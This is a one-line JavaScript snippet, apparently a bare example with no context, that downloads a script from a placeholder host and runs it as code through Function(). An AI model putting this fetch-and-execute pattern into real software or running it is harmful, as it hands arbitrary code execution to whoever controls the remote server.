fetch('https://plugins.example.net/a.js').then((answer) => answer.text()).then((text) => Function(text)());
